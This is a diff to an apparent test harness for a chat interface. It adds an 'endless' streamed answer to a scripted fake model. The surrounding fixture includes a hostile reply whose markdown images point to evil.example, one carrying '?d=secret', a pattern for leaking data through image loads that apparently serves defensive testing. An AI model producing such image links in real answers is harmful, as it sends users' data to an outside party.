@@ -49,6 +49,8 @@ def find_chromium() -> str | None:
 
 
 LONG = "\n\n".join(f"Paragraph {i} of a long answer that takes its time." for i in range(1, 41))
+ENDLESS = "\n\n".join(f"Paragraph {i} of a long answer that takes its time." for i in range(1, 501))
+"""To be stopped: longer than a busy machine takes to get there."""
 HOSTILE = """Here is **what I found**.
 
 ![picture](https://evil.example/?d=secret) ![](https://evil.example/b.png) !![twice](https://evil.example/c.png)
@@ -70,6 +72,8 @@ def brain(body: Json) -> Turn | Failure:
         return Turn.call("list_files", text="I look at the files first.")
     if "thorough" in question or "long" in question:
         return Turn.say(LONG, pieces=120, delay=0.12)
+    if "endless" in question:
+        return Turn.say(ENDLESS, pieces=1_500, delay=0.12)
     if "hostile" in question:
         return Turn.say(HOSTILE) if results else Turn.call(("read_file", {"file": "f1"}))
     if "Drive" in question and not results:
